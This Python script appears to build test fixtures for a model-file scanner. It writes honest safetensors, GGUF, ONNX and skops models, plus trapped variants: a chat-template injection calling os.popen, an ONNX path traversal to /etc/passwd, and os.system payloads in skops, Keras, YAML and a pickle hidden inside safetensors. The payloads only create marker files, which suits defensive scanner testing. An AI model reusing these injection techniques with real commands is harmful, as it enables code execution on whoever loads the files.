"""Builds models in formats other than pickle: honest ones by the real libraries, and the same with a trap in them.

The traps are inert: what they would do, in the hands of a loader that follows them, is to write one small file,
`loadlock-marker-NAME`, in the temp directory, or to read one that everybody may read. Nothing here is loaded.

python examples/build_other_formats.py      needs test/python/requirements.txt
"""

import io
import json
import zipfile
from pathlib import Path

import gguf
import h5py
import numpy as np
import onnx
import skops.io
import yaml
from onnx import TensorProto, helper, numpy_helper
from safetensors.numpy import save
from sklearn.datasets import load_iris, load_wine
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

HERE = Path(__file__).parent
HONEST, TRAPPED = HERE / "honest", HERE / "booby-trapped"
CHAT = (
    "{% for message in messages %}{{ '<|' + message['role'] + '|>\\n' + message['content'] | trim + '\\n' }}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>\\n' }}{% endif %}"
)


def shell(marker):
    return f'touch "${{TMPDIR:-/tmp}}/loadlock-marker-{marker}"'


def weights():
    """The coefficients of a classifier of the Wine data set, its features scaled."""
    features, target = load_wine(return_X_y=True)
    model = LogisticRegression().fit(StandardScaler().fit_transform(features), target)
    return {"linear.weight": model.coef_.astype(np.float32), "linear.bias": model.intercept_.astype(np.float32)}


def zipped(files):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data)
    return buffer.getvalue()


def language_model(template):
    """A toy language model: one tensor and the metadata of a real one."""
    path = HERE / "model.tmp"
    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_name("toy")
    writer.add_context_length(64)
    writer.add_embedding_length(8)
    writer.add_block_count(1)
    writer.add_chat_template(template)
    writer.add_tensor("token_embd.weight", np.arange(64, dtype=np.float32).reshape(8, 8))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    data = path.read_bytes()
    path.unlink()
    return data


def classifier(location=None):
    """The Wine classifier as ONNX; with `location`, its weights lie in another file."""
    parameters = weights()
    matrix = numpy_helper.from_array(parameters["linear.weight"].T.copy(), "weight")
    if location is not None:
        matrix.ClearField("raw_data")
        matrix.data_location = TensorProto.EXTERNAL
        entry = matrix.external_data.add()
        entry.key, entry.value = "location", location
    graph = helper.make_graph(
        [helper.make_node("Gemm", ["x", "weight", "bias"], ["y"])],
        "wine",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 13])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 3])],
        [matrix, numpy_helper.from_array(parameters["linear.bias"], "bias")],
    )
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8).SerializeToString()


def estimator():
    model = make_pipeline(StandardScaler(), LogisticRegression(max_iter=500)).fit(*load_iris(return_X_y=True))
    return skops.io.dumps(model)


def changed_schema(archive, change):
    """A .skops archive whose schema was edited."""
    source, out = zipfile.ZipFile(io.BytesIO(archive)), io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "schema.json":
                schema = json.loads(data)
                change(schema)
                data = json.dumps(schema).encode()
            target.writestr(info, data)
    return out.getvalue()


def as_method(schema):
    """The root becomes a method of an object, whose class is not the one that is named (CVE-2025-54413)."""
    inner = dict(schema)
    schema.update({
        "__class__": "MethodNode", "__module__": "builtins", "__loader__": "MethodNode",
        "content": {"func": "system", "obj": {**inner, "__class__": "os", "__module__": "os"}},
    })


def neural_network(layer):
    """A Keras 3 archive of one layer, as `model.save` lays it out."""
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        file.create_group("layers")
    config = {
        "module": "keras", "class_name": "Sequential", "registered_name": None,
        "config": {"name": "sequential", "trainable": True, "layers": [layer]},
    }
    metadata = {"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}
    return zipped({"metadata.json": json.dumps(metadata), "config.json": json.dumps(config),
                   "model.weights.h5": buffer.getvalue()})


def main():
    parameters = weights()
    HONEST.joinpath("wine.safetensors").write_bytes(save(parameters, {"format": "np"}))
    HONEST.joinpath("toy.gguf").write_bytes(language_model(CHAT))
    HONEST.joinpath("wine.onnx").write_bytes(classifier())
    HONEST.joinpath("iris.skops").write_bytes(estimator())

    injection = "{{ cycler.__init__.__globals__.os.popen('" + shell("chat-template").replace('"', "") + "').read() }}"
    TRAPPED.joinpath("chat-template.gguf").write_bytes(language_model(CHAT + injection))
    TRAPPED.joinpath("external-data.onnx").write_bytes(classifier("../../../../../../etc/passwd"))
    TRAPPED.joinpath("method-node.skops").write_bytes(changed_schema(estimator(), as_method))
    TRAPPED.joinpath("class-of-os.keras").write_bytes(neural_network({
        "module": "os", "class_name": "system", "registered_name": None, "config": shell("class-of-os"),
    }))
    TRAPPED.joinpath("instantiate.yaml").write_text(
        yaml.dump({"model": {"_target_": "torch.nn.Linear", "in_features": 2, "out_features": 2},
                   "callbacks": [{"_target_": "os.system", "command": shell("instantiate")}]})
    )
    TRAPPED.joinpath("attention-kernel").mkdir(exist_ok=True)
    TRAPPED.joinpath("attention-kernel", "config.json").write_text(json.dumps({
        "architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 64,
        "_attn_implementation_internal": "someone/kernel",
    }, indent=2) + "\n")
    # A zip archive inside of the last tensor: one file, two formats.
    hidden = zipped({"data.pkl": b"cos\nsystem\n(V" + shell("two-formats").encode() + b"\ntR."})
    TRAPPED.joinpath("two-formats.safetensors").write_bytes(
        save({"a": np.zeros(4, np.float32), "z": np.frombuffer(hidden, np.uint8)})
    )


if __name__ == "__main__":
    main()
